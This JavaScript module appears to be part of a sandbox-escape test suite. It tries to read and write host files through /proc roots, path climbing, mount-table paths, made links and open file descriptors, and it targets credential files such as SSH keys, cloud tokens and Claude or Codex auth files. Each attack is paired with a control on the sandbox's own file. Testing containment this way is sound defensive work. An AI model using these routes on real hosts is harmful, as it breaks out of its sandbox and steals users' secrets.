/** Attempts to read and to write files of the host by other ways than their paths. Each control goes the same way to an own file. */
import {
  appendFileSync,
  linkSync,
  mkdtempSync,
  openSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  readSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { basename, join } from 'node:path';
import { carryLoot } from './loot.mjs';
import { carryHome } from './wire.mjs';

/** A new folder of the bottle's own. */
export const ownDir = () => mkdtempSync(join(tmpdir(), 'own-'));

/** Does it to each; throws the first failure when none went well. */
export function some(values, act) {
  const failures = [];
  const results = values.flatMap((value) => {
    try {
      return [act(value)];
    } catch (error) {
      failures.push(error);
      return [];
    }
  });
  if (results.length === 0) throw failures[0] ?? new Error('nothing to try');
  return results;
}

export const processes = () => readdirSync('/proc').filter((name) => /^\d+$/.test(name));

const MOST_BYTES = 64 * 1024;

/** The beginning of a file; never waits, as a FIFO would. */
function readStart(path) {
  if (!statSync(path).isFile()) throw new Error('no file');
  const bytes = Buffer.alloc(MOST_BYTES);
  const length = readSync(openSync(path, 'r'), bytes, 0, MOST_BYTES, 0);
  return bytes.toString('latin1', 0, length);
}

/** All regular files that processes here have open, and those that are there no more. */
const openFiles = () =>
  processes().flatMap((pid) => {
    try {
      return readdirSync(`/proc/${pid}/fd`).map((fd) => `/proc/${pid}/fd/${fd}`);
    } catch {
      return [];
    }
  });

/** From where a program stands, up beyond every root. */
const climbed = (path, from = new URL('.', import.meta.url).pathname) => `${from}${'/..'.repeat(24)}${path}`;

/** Every folder of a host that the table of mounts tells of: what is mounted from where, and what lies below. */
function toldOfMounts() {
  const lines = readFileSync('/proc/self/mountinfo', 'utf8').split('\n').filter(Boolean);
  const named = lines.flatMap((line) => {
    const [, , , root, point] = line.split(' ');
    const options = line.match(/(?:lowerdir|upperdir|workdir)=([^, ]+)/g) ?? [];
    return [root, point, ...options.flatMap((option) => option.replace(/^\w+=/, '').split(':'))];
  });
  return [...new Set(named)].filter((path) => path?.startsWith('/')).slice(0, 300);
}

/** A link of the bottle's own to a path, symbolic; and a hard one, where that can be made. */
function linksTo(path) {
  const dir = ownDir();
  symlinkSync(path, join(dir, 'symbolic'));
  try {
    linkSync(path, join(dir, 'hard'));
  } catch {
    // not of another file system, not of another's file
  }
  return readdirSync(dir).map((name) => join(dir, name));
}

const roots = () => processes().map((pid) => `/proc/${pid}/root`);
const ownRoots = () => ['/proc/self/root', '/proc/thread-self/root', '/proc/self/task/../root'];
const below = (prefixes) => (path) => prefixes().map((prefix) => `${prefix}${path}`);

/** By each way: from a path of the host to the paths that may lead to the same file. */
const WAYS = {
  itself: (path) => [path],
  procRoot: below(ownRoots),
  otherRoot: below(roots),
  climb: (path) => [climbed(path), climbed(path, '/proc/self/cwd')],
  madeLink: linksTo,
  mounts: (path) => toldOfMounts().flatMap((folder) => [`${folder}${path}`, climbed(path, folder)]),
};

/** A file of the bottle's own is read by the same way. */
const reading = (way, pathOf) => ({
  attack: async (t, nonce) => await carryLoot(t, nonce, some(way(pathOf(t)), readStart).join('\n')),
  control: async (t, nonce) => {
    const path = join(ownDir(), 'file');
    writeFileSync(path, nonce);
    const text = some(way(path), readStart).join('\n');
    if (!text.includes(nonce)) throw new Error('the own file is not found');
    await carryHome(t, nonce);
  },
});

const writing = (way, pathOf, write = appendFileSync) => ({
  attack: async (t, nonce) => void some(way(pathOf(t)), (path) => write(path, nonce)),
  control: async (_t, nonce) => {
    const path = join(ownDir(), 'file');
    writeFileSync(path, 'as it was\n');
    some(way(path), (each) => write(each, nonce));
    if (!readFileSync(path, 'utf8').includes(nonce)) throw new Error('the own file is as it was');
  },
});

const inWorkspace = (name) => new URL(name, import.meta.url).pathname;

/** What leads out of the project by what the project itself holds; an own link leads to an own file. */
const byLink = (act, name, below = '') => ({
  ...act(
    (path) => [path],
    () => join(inWorkspace(name), below),
  ),
  control: act(WAYS.madeLink, () => '').control,
});

const byLoot = (way, name) => reading(way, (t) => t.lootPaths[name]);
const byPlace = (way, name, write) => writing(way, (t) => t.writePaths[name], write);

/** An own file that is open and has no name any more. */
async function ownOpenFile(t, nonce) {
  const path = join(ownDir(), 'gone');
  writeFileSync(path, nonce);
  openSync(path, 'r');
  rmSync(path);
  const text = some(openFiles(), readStart).join('\n');
  if (!text.includes(nonce)) throw new Error('the own file is not found');
  await carryHome(t, nonce);
}

const ofOpenFiles = {
  attack: async (t, nonce) => await carryLoot(t, nonce, some(openFiles(), readStart).join('\n')),
  control: ownOpenFile,
};

/** In the folders that processes stand in, whatever those are called. */
const standing = (path) => processes().map((pid) => `/proc/${pid}/cwd/${basename(path)}`);

async function standingOwn(t, nonce) {
  const dir = ownDir();
  writeFileSync(join(dir, nonce), nonce);
  process.chdir(dir);
  await carryHome(t, some(standing(nonce), readStart)[0]);
}

/** Only files that are not the program's own: by the name that the link has. */
const heldOpen = (path) =>
  openFiles().filter((link) => {
    try {
      return readlinkSync(link) === path;
    } catch {
      return false;
    }
  });

async function heldOwn(_t, nonce) {
  const path = join(ownDir(), 'held');
  openSync(path, 'a');
  some(heldOpen(path), (link) => appendFileSync(link, nonce));
  if (!readFileSync(path, 'utf8').includes(nonce)) throw new Error('the own file is as it was');
}

export const FILES = {
  'read-tmp': byLoot(WAYS.itself, 'tmp'),
  'read-var-tmp': byLoot(WAYS.itself, 'varTmp'),
  'read-proc-root': byLoot(WAYS.procRoot, 'procRoot'),
  'read-other-root': byLoot(WAYS.otherRoot, 'otherRoot'),
  'read-other-cwd': { attack: byLoot(standing, 'cwd').attack, control: standingOwn },
  'read-open-file': ofOpenFiles,
  'read-inherited': ofOpenFiles,
  'read-project-link': byLink(reading, 'leads-out'),
  'read-project-folder-link': byLink(reading, 'folder-leads-out', 'file'),
  'read-climb': byLoot(WAYS.climb, 'climb'),
  'read-made-link': byLoot(WAYS.madeLink, 'madeLink'),
  'read-mounts': byLoot(WAYS.mounts, 'mounts'),
  'write-proc-root': byPlace(WAYS.procRoot, 'procRoot'),
  'write-other-root': byPlace(WAYS.otherRoot, 'otherRoot'),
  'write-project-link': byLink(writing, 'writes-out'),
  'write-hard-link': byLink(writing, 'hard-link'),
  'write-climb': byPlace(WAYS.climb, 'climb'),
  'write-made-link': byPlace(WAYS.madeLink, 'madeLink'),
  'write-open-file': { attack: byPlace(heldOpen, 'held').attack, control: heldOwn },
};

/** Each credential file, where the host has it and where a bottle would show it. */
const CREDENTIAL_FILES = {
  'ssh-key': ['sshKey', '.ssh/id_ed25519'],
  'git-credentials': ['gitCredentials', '.git-credentials'],
  npmrc: ['npmrc', '.npmrc'],
  netrc: ['netrc', '.netrc'],
  'aws-credentials': ['awsCredentials', '.aws/credentials'],
  'gcloud-credentials': ['gcloudCredentials', '.config/gcloud/application_default_credentials.json'],
  'gh-hosts': ['ghHosts', '.config/gh/hosts.yml'],
  'docker-config': ['dockerConfig', '.docker/config.json'],
  'claude-credentials': ['claudeCredentials', '.claude/.credentials.json'],
  'codex-auth': ['codexAuth', '.codex/auth.json'],
};

export const CREDENTIALS = Object.fromEntries(
  Object.entries(CREDENTIAL_FILES).map(([id, [name, path]]) => [
    id,
    byLoot((host) => [host, ...homes().map((home) => join(home, path))], name),
  ]),
);

const homes = () => [process.env.HOME, '/root', '/home/agent'].filter(Boolean);
